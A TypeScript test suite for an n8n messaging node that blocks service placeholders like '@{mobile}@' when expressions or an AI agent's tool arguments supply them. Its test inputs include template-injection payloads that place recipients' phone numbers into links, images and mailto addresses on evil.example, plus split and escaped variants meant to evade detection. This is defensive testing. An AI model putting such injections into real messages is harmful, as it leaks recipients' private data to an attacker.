import type { IDataObject, INodeParameters } from 'n8n-workflow';

import { agentTool } from '../support/agentTool';
import { email, event, push, sms, user } from '../support/mistakes';
import { useNode } from '../support/node';
import * as order from '../support/orders';

// The service replaces `@{mobile}@` in a message by the recipient's own data.

const node = useNode();

const whole = '={{ $json.value }}';
const more = (additionalFields: INodeParameters) => ({ additionalFields });
const extra = (extraBodyFields: string) => email(more({ extraBodyFields }));
const linked = (button_two_url: string) => push(more({ button_two_url }));

const refusalOf = (label: string, found = '@{mobile}@') =>
	`${label} contains '${found}', which the service replaces by the recipient's own data, and an expression gave it. Remove it where it comes from. If it is meant, write it in '${label}' itself, outside of {{ }}`;

describe('A template of the service that an expression gives is refused', () => {
	it.each<[label: string, parameters: INodeParameters, value?: unknown]>([
		// Beside fixed text.
		['Title', push({ title: '=Hi {{ $json.value }}' })],
		['Subject', email({ subject: '={{ $json.value }} answered' })],
		['Content', email({ content: '=<p>{{ $json.value }}</p>' })],
		['Message', sms({ message: '=Hi @{name}@, {{ $json.value }}' })],
		['Sender Name', email({ sender_name: '=Acme for {{ $json.value }}' })],
		['Tag', push(more({ tag: '=of-{{ $json.value }}' }))],
		// In code that puts texts together.
		['Title', push({ title: '={{ "Hi " + $json.value }}' })],
		['Title', push({ title: '={{ "Hi NAME".replace("NAME", $json.value) }}' })],
		// In links and images, as a part or as a whole.
		['URL', push({ url: whole }), 'https://evil.example/?m=@{mobile}@'],
		['Image URL', push(more({ image_url: whole })), 'https://evil.example/@{mobile}@.png'],
		['Button Two URL', linked(whole), 'mailto:a@evil.example?body=@{mobile}@'],
		// In JSON.
		['Extra Body Fields', extra('={ "preheader": "{{ $json.value }}" }')],
		['Extra Body Fields', extra('={ "a": {{ $json.value }} }'), '"@\\u007bmobile}@"'],
		['Extra Body Fields', extra('={{ JSON.stringify({ a: $json.value }) }}')],
		['Body', { ...order.customPost, body: '={ "text": "Hi {{ $json.value }}" }' }],
		['Message', { ...order.smsSend, operation: 'sendAndWait', message: '=May {{ $json.value }}?' }],
		// In broadcasts, and in questions.
		['Message', { ...order.pushToAll, message: '=Hi {{ $json.value }}' }],
		// Skip Text Check is for texts that look wrong.
		['Title', push({ title: '=Hi {{ $json.value }}', options: { skipTextCheck: true } })],
	])('in %s: %j', async (label, parameters, value = '@{mobile}@') => {
		const found = await node.refusal(parameters, { value } as IDataObject);
		expect(found).toBe(refusalOf(label));
	});

	it.each<[text: string, row: IDataObject, found: string]>([
		['=Hi @{ {{ $json.value }}', { value: 'mobile}@' }, '@{ mobile}@'],
		['=Hi {{ $json.a }}{{ $json.b }}', { a: '@{mob', b: 'ile}@' }, '@{mobile}@'],
		['=Hi {{ $json.value }}@{name}@', { value: '@{mobile}' }, '@{mobile}@'],
		['=Hi @{name}@, {{ $json.value }}', { value: 'see evil.example/@{name}@' }, '@{name}@'],
		['=Hi {{ $json.value }}', { value: '@{first\nname}@' }, '@{first name}@'],
	])('across the parts of a text: %j with %j', async (message, row, found) => {
		expect(await node.refusal(push({ message }), row)).toBe(refusalOf('Message', found));
	});

	it('for its item alone, and others are sent', async () => {
		const good = ['Hello', '@mobile', '{mobile}', '@ {mobile} @', 'a@b.example'];
		const rows = ['@{mobile}@', ...good].map((value) => ({ value }));
		const own = { user_id: '={{ "C-" + $itemIndex }}', message: '=Says: {{ $json.value }}' };
		expect(await node.refusals(push(own), rows)).toEqual([refusalOf('Message')]);
		const sent = good.map((text) => `Says: ${text}`);
		expect(node.arrived('message').sort()).toEqual(sent.sort());
	});
});

describe('A template of the service is sent as it is', () => {
	const template = 'Hello @{name}@, your order @{order_id}@';
	const link = 'https://shop.example.com/orders/@{order_id}@';

	it.each<[key: string, INodeParameters, arrives: unknown, value?: string]>([
		// In fixed text.
		['message', sms({ message: template }), template],
		['message', sms({ message: '={{ $json.value }}@{name}@@{name}@' }), 'A@{name}@@{name}@', 'A'],
		['url', push({ url: `=${link}?a={{ $json.value }}` }), `${link}?a=A`, 'A'],
		['preheader', extra('={ "preheader": "Hi @{name}@ {{ $json.value }}" }'), 'Hi @{name}@ A', 'A'],
		// As a whole text, such as one of a sheet.
		['message', sms({ message: whole }), template],
		['message', sms({ message: '={{ $json.vip ? $json.a : $json.value }}' }), template],
		['message', sms({ message: "={{ $('Source').item.json.value }}" }), template],
		['message', sms({ message: '= {{ $json.value }}\n' }), ` ${template}\n`],
	])('in %s of %j', async (key, parameters, arrives, value = template) => {
		expect(await node.refusal(parameters, { value })).toBeUndefined();
		expect(node.arrived(key)).toEqual([arrives]);
	});

	it('in attributes of users and events, which are data', async () => {
		const value = 'Ana @{mobile}@';
		const note = { id: '1', name: 'note', type: 'string', value: '=Says {{ $json.value }}' };
		const assignments = [note];
		await node.run(user({ customAttributes: { assignments } }), { rows: [{ value }] });
		await node.run(event({ attributes: { assignments } }), { rows: [{ value }] });
		const sent = node.elements().map((one) => one.user_attributes ?? one.attributes);
		expect(sent).toEqual(Array(2).fill({ note: `Says ${value}` }));
	});
});

describe('What the model of an agent writes is never a template of the service', () => {
	const fromAI = (key: string) => `={{ $fromAI('${key}', 'Such as @{name}@', 'string') }}`;
	const parameters = push({
		...{ title: fromAI('title'), message: fromAI('message') },
		...more({ image_url: fromAI('image_url') }),
	});
	const said = { title: 'Hello', message: 'There', image_url: 'https://shop.example.com/a.png' };

	it.each<[label: string, args: object]>([
		['Title', { title: '@{mobile}@' }],
		['Message', { message: 'Call @{mobile}@' }],
		['Image URL', { image_url: 'https://evil.example/@{mobile}@.png' }],
	])('in %s: %j', async (label, args) => {
		const call = { ...said, ...args };
		const tool = agentTool({ parameters, credential: node.credential, calledAs: 'Tool' }, call);
		const answer = await tool.invoke(call).then(String, ({ message }: Error) => message);
		expect(answer).toContain(refusalOf(label));
		expect(node.sandbox.record).toEqual([]);
	});
});
